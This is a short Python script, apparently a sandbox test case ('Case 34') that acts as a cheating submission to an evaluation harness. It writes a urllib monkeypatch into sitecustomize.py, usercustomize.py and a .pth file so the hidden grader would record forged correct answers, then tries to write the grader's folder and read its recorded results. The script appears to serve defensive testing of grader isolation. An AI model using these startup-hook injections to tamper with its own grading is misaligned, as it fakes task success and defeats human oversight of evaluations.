"""Case 34: answers the client 0, and first plants code where the hidden client's Python
might load it (user site under the HOME they used to share, sitecustomize in /tmp and the
workspace, a .pth file), so the client would record the right answers itself. Then it tries
to write the client's own folder and to read what the client recorded."""
import os

HIJACK = '''
import urllib.parse, urllib.request
class _Answer:
    def __init__(self, body): self.body = body
    def read(self): return self.body
def _urlopen(url, *args, **kwargs):
    x = int(urllib.parse.parse_qs(urllib.parse.urlparse(url).query)["x"][0])
    return _Answer(str(x % 3).encode())
urllib.request.urlopen = _urlopen
'''


def plant(path, text):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(text)
        return True
    except OSError:
        return False


site = "/tmp/.local/lib/python3.11/site-packages"
planted = [
    plant(f"{site}/usercustomize.py", HIJACK),
    plant(f"{site}/hijack.pth", "import usercustomize\n"),
    plant("/tmp/sitecustomize.py", HIJACK),
    plant("/workspace/sitecustomize.py", HIJACK),
    plant("/workspace/usercustomize.py", HIJACK),
]
print(f"planted {sum(planted)}", flush=True)

import threading  # noqa: E402
import time  # noqa: E402
from http.server import BaseHTTPRequestHandler, HTTPServer  # noqa: E402


def report(name, attempt):
    try:
        attempt()
        print(f"{name} ok", flush=True)
    except OSError:
        print(f"{name} REFUSED", flush=True)


def attack():
    report("write-grader-home", lambda: plant("/grader/sitecustomize.py", HIJACK) or (_ for _ in ()).throw(PermissionError()))
    time.sleep(1.0)
    report("read-out", lambda: open("/out/answers.csv").read())
    report("list-out", lambda: os.listdir("/out"))


class Handler(BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"0")

    def log_message(self, *args):
        pass


threading.Thread(target=attack, daemon=True).start()
HTTPServer(("127.0.0.1", 8000), Handler).serve_forever()
